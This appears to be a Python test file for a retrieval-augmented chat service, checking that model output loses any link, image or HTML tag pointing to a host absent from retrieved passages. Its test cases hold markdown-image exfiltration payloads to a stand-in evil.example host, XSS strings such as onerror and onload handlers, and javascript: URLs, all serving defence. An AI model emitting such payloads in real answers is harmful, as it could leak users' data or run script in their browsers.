"""Nothing that a model writes loads from, or leads to, where no passage leads, however it comes in pieces."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from made_hits import passage_of

from ragsvc.domain import Delta, FinishReason, GenerationRequest, Hit, Message
from ragsvc.pipeline.generation.chat_generator import PromptedGenerator

TEXT = "See [the list](http://ok.example/list) and https://docs.example/a_(b)?q=1. ![p](/img/p.png)."
PASSAGE = passage_of(1, TEXT, source="https://source.example/page", title="Nature")
HITS = (
    Hit(rank=1, score=1.0, corpus="c", passage=PASSAGE),
    Hit(rank=2, score=1.0, corpus="c", passage=PASSAGE),
)
KNOWN = ("http://ok.example/list", "https://docs.example/a_(b)?q=1", "https://source.example/page")


class Scripted:
    """A Chat that writes what it is told to."""

    name = "scripted"

    def __init__(self, pieces: Sequence[str]) -> None:
        self.pieces = pieces

    def count(self, text: str) -> int:
        return len(text.split())

    def stream(
        self, messages: Sequence[Message], max_tokens: int, temperature: float, stop: Sequence[str]
    ) -> Iterator[Delta]:
        yield from map(Delta, self.pieces)
        yield Delta("", FinishReason.STOP, 1, 1)


def read(*pieces: str) -> str:
    generator = PromptedGenerator(Scripted(pieces), prompt_tokens=600, max_answer_tokens=50)
    return "".join(
        piece.text
        for piece in generator.stream(GenerationRequest(question="Why?", passages=HITS, evidence=()))
    )


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Ice ![x](http://evil.example/leak?q=1) is solid [1].", "Ice x is solid [1]."),
        ("Ask [contact](http://evil.example/?d=secret) now.", "Ask contact now."),
        ("Ask **[contact](<http://evil.example/ a> 'b')**.", "Ask **contact**."),
        ("[![x](http://evil.example/1)](http://evil.example/2)!", "x!"),
        ("See http://evil.example/?d=s, <http://evil.example> or www.evil.example.", "See …, … or …."),
        ("[x]: http://evil.example/a\n![a][x]", "[x]: …\n[a][x]"),
        ("[x]: //evil.example/a", "[x]: …"),
        (
            "<img src=x onerror=alert(1)>Ice <a href='http://e.example'>is</a> <b>solid</b>.",
            "Ice is <b>solid</b>.",
        ),
        ("<script>ice</script> is solid <svg/onload=a>", "ice is solid "),
        ("Ice <img src=http://evil.example", "Ice "),
        ("Solid[1](http://evil.example) ice![1] Yes![1][2]", "Solid[1] ice![1] Yes![1][2]"),
        ("[a][99](http://evil.example) [b]【99】(//evil.example/x)", "a b"),
        ("[a](javascript:alert(1)) [b](data:text/html,x) [c](/logout)", "a b c"),
        ("ht<img src=x>tp://evil.example [<img src=x>99] [<b style=x>1]", "ht tp:… […99] […1]"),
        # What stands in a passage, or is no link.
        (
            "[l](http://ok.example/list) https://docs.example/a_(b)?q=1.",
            "[l](http://ok.example/list) https://docs.example/a_(b)?q=1.",
        ),
        (
            "(https://source.example/page) ![p](/img/p.png 't')",
            "(https://source.example/page) [p](/img/p.png)",
        ),
        (
            "[1](see below) a < b, x<y, 2 // 3, data: 5, http: and/or!",
            "[1] (see below) a < b, x<y, 2 // 3, data: 5, http: and/or!",
        ),
        # Code.
        ("`a[1](i)` `curl http://x.example` `<T> <img>`", "`a[1](i)` `curl http://x.example` `<T> <img>`"),
        ("` ![x](http://evil.example)", "` x"),
    ],
)
def test_links_lead_where_passages_lead(written: str, shown: str) -> None:
    assert read(written) == read(*written) == shown


PARTS = [
    "![x](", "[y](", "](", ")", "[", "]", "!", "(", "http://evil.example/?q=1", "//evil.example/x", "http",
    "://", "http://ok.example/list", "<", ">", "<img src=", "<a href='", "'", '"', "[1]", "[99]", "【99】",
    "`", "```", "\n", "\n\n", " ", "[x]: ", "www.", "data:text/html,x", "ice is solid", "/logout",
    "javascript:", "\\", "1", "9",
]  # fmt: skip
_LINK = re.compile(r"\]\(\s*<?([^\s()<>]*)")
_TAG = re.compile(r"<(?:img|a|script)\b[^>]*//", re.IGNORECASE)


@given(st.lists(st.one_of(st.sampled_from(PARTS), st.text(max_size=3)), max_size=16), st.data())
@example(["[x](", "a b http://evil.example/?q=1", ")"], None)
@example(["`[x](", "a b http://evil.example/?q=1", ")"], None)
def test_no_foreign_target_comes_out_and_the_pieces_do_not_matter(
    parts: list[str], data: st.DataObject | None
) -> None:
    whole = "".join(parts)
    shown = read(whole)
    assert all(
        target in (*KNOWN, "/img/p.png") for target in _LINK.findall(shown) if re.match(r"\w*:?//", target)
    )
    assert "![" not in re.sub(r"!\[\d{1,4}\]", "", shown)
    assert not _TAG.search(shown)
    if "`" not in whole:
        assert "http://evil" not in shown
    if data is not None:
        cuts = sorted(data.draw(st.sets(st.integers(0, len(whole)), max_size=8)))
        assert read(*(whole[a:b] for a, b in itertools.pairwise([0, *cuts, len(whole)]))) == shown


def test_what_never_ends_is_left_out_in_bounded_time() -> None:
    assert read("Ice [x](http://evil.example/" + "a" * 5000 + ") is") == "Ice x is"
    assert read("Ice <img src=" + "a" * 5000 + "> is") == "Ice  is"
    assert read("Ice http://evil.example/" + "a" * 5000 + " is") == "Ice … is"
    for hostile in ("](", "](a b", "<b ", '](a "', "![", "[", "h"):
        assert "http" not in read(hostile * 3000)
